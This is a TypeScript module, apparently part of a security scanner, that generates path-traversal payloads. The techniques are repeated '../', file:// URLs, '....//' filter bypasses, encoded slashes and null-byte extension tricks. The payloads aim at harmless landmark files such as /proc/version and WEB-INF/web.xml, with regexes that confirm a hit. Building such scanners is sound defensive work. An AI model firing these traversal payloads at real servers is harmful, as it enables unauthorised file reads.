@@ -1,0 +1,80 @@
+/** Ways out of a folder, and what has to stand at their end. */
+
+/** Deeper than applications lie: where one lies deeper still, the way ends in a folder that is not there. */
+const LEVELS = 12
+const UP = '../'.repeat(LEVELS)
+
+/** Ways to a file of the machine. `path` begins with a slash. */
+export const PATHS: readonly {
+  readonly flavour: string
+  /** 'deep': only where the value or the name speaks of files; 'apart': then, too, but not in a group of headers and cookies. */
+  readonly tried: 'always' | 'deep' | 'apart'
+  readonly with: (v: string, path: string) => string
+}[] = [
+  // Begins at the root and behind any folder alike.
+  { flavour: '/../', tried: 'always', with: (_v, path) => `/${UP}${path.slice(1)}` },
+  { flavour: 'file address', tried: 'always', with: (_v, path) => `file://${path}` },
+  { flavour: '../', tried: 'deep', with: (_v, path) => `${UP}${path.slice(1)}` },
+  { flavour: '../ behind the value', tried: 'apart', with: (v, path) => `${v}/${UP}${path.slice(1)}` },
+  {
+    flavour: '../ behind its folder',
+    tried: 'apart',
+    with: (v, path) => `${v.replace(/[^/]*$/, '')}${UP}${path.slice(1)}`,
+  },
+  {
+    // In front of it stands a folder, or nothing: a slash more serves both.
+    flavour: '….//, for filters that cut once',
+    tried: 'apart',
+    with: (_v, path) => `/${'....//'.repeat(LEVELS)}${path.slice(1)}`,
+  },
+  {
+    flavour: '../ encoded twice',
+    tried: 'apart',
+    with: (_v, path) => `${'..%2f'.repeat(LEVELS)}${path.slice(1).replaceAll('/', '%2f')}`,
+  },
+  {
+    // To what is written in C the name ends there; the ending that is asked for, or put behind, comes after.
+    flavour: '../, its ending behind a null byte',
+    tried: 'apart',
+    with: (v, path) => `/${UP}${path.slice(1)}\0${/\.\w{1,5}$/.exec(v)?.[0] ?? '.html'}`,
+  },
+]
+
+export interface Landmark {
+  readonly path: string
+  readonly shows: RegExp
+}
+
+/**
+ * Everyone may read these, and they tell no more than which system it is. They are the kernel's own (proc(5)): whatever the
+ * place does with a name, nobody can write, empty, rename or delete them, root included, nor make a file beside them, as
+ * NO_FILE would be.
+ */
+export const FILES: readonly Landmark[] = [
+  { path: '/proc/version', shows: /Linux version \d+\.\d+[^\n]{0,80}/ },
+  { path: '/proc/filesystems', shows: /\bnodev\s+(?:sysfs|proc|tmpfs|devtmpfs|cgroup2?)\b/ },
+]
+export const NO_FILE = '/proc/versioq'
+
+/** Folders of the kernel's, by names that stand in no other: for what lists a folder. */
+export const FOLDERS: readonly Landmark[] = [
+  { path: '/proc/sys/kernel', shows: /\bthreads-max\b/ },
+  { path: '/proc/sys/vm', shows: /\bovercommit_memory\b/ },
+]
+export const NO_FOLDER = '/proc/sys/kerneq'
+
+/**
+ * The description of a Java application, which no container hands out: for what opens files of the application and not of
+ * the machine (Servlet 6.0, 10.5). A file like others, so it is named only where it has shown that the place reads.
+ */
+export const DESCRIPTION: Landmark & { readonly none: string } = {
+  path: 'WEB-INF/web.xml',
+  none: 'WEB-INF/web.xmq',
+  shows: /<web-app\b[^>]{0,200}/,
+}
+
+/** From the folder of a page up to where the application begins, and likewise for filters that cut once. */
+export const upwards = (levels: number): readonly string[] => [
+  `/${'../'.repeat(levels)}`,
+  ...(levels > 0 ? [`/${'....//'.repeat(levels)}`] : []),
+]
